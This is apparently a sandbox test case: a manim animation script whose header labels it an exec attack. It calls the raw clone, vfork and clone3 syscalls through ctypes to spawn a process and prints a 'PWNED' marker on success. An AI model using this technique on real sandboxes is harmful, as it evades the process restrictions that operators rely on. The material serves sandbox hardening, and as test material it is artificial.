# ATTACK: exec
# SUCCESS: a process by the bare clone and clone3
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import ctypes, os, struct
        l = ctypes.CDLL(None)
        for n, a in ((56, (17, 0, 0, 0, 0)), (58, ()), (435, (ctypes.create_string_buffer(struct.pack("11Q", 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)), 88))):
            p = l.syscall(n, *a)
            if p == 0: os._exit(0)
            if p > 0: print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
